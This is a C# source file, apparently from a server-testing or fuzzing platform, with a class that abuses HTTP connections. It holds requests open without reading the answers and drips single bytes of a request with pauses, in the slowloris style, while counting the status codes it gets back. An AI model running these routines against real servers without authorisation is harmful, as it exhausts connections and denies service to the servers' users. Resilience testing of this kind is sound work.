using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Text;
using Platform.Attack.Running;
using Platform.Fuzz.Wire;

namespace Platform.Attack.Wire;

/// <summary>Misuses connections: sends requests byte by byte, and does not read answers.</summary>
internal static class ConnectionAbuse
{
    private const int SmallBuffer = 4096;

    /// <summary>Sends a request, reads only the head of the answer, and keeps the connection open if the request was accepted.</summary>
    public static async Task UnreadAsync(WireRequest request, IPAddress from, KindTally tally, TimeSpan stay, CancellationToken stop)
    {
        tally.Send();
        await using var stream = await Connection.OpenAsync(request.Server.Host, request.Server.Port, from, SmallBuffer, stop);
        await stream.WriteAsync(request.ToBytes(), stop);
        var status = await StatusAsync(stream, stop);
        tally.Answer(status);
        if (status is > 0 and < 300)
        {
            await Task.Delay(stay, stop);
        }
    }

    /// <summary>
    /// Sends the beginning of a request, then single bytes with pauses, until it is answered, the connection is closed, or the time has passed.
    /// </summary>
    public static async Task SlowlyAsync(Uri server, byte[] beginning, byte next, TimeSpan pause, TimeSpan longest, IPAddress from, KindTally tally, CancellationToken stop)
    {
        tally.Send();
        await using var stream = await Connection.OpenAsync(server.Host, server.Port, from, null, stop);
        await stream.WriteAsync(beginning, stop);
        using var limit = CancellationTokenSource.CreateLinkedTokenSource(stop);
        limit.CancelAfter(longest);
        var answer = StatusAsync(stream, limit.Token);
        try
        {
            while (await Task.WhenAny(answer, Task.Delay(pause, limit.Token)) != answer)
            {
                limit.Token.ThrowIfCancellationRequested();
                await stream.WriteAsync(new[] { next }, limit.Token);
            }

            tally.Answer(await answer);
        }
        catch (Exception exception) when (exception is IOException or SocketException || (exception is OperationCanceledException && !stop.IsCancellationRequested))
        {
            // The connection was kept for the whole time, or closed without an answer, or before the answer was read.
            tally.Answer(await StatusOrNoneAsync(answer));
        }
    }

    private static async Task<int> StatusOrNoneAsync(Task<int> answer)
    {
        try
        {
            return await answer;
        }
        catch (Exception exception) when (exception is IOException or SocketException or OperationCanceledException)
        {
            return 0;
        }
    }

    /// <summary>Reads the status of the answer; 0 if the connection is closed without one.</summary>
    private static async Task<int> StatusAsync(NetworkStream stream, CancellationToken cancellationToken)
    {
        var head = new byte[16];
        var length = 0;
        while (length < head.Length)
        {
            var read = await stream.ReadAsync(head.AsMemory(length), cancellationToken);
            if (read == 0)
            {
                break;
            }

            length += read;
        }

        return Encoding.ASCII.GetString(head, 0, length).Split(' ') is [_, var code, ..] && int.TryParse(code, NumberStyles.None, CultureInfo.InvariantCulture, out var status) ? status : 0;
    }
}
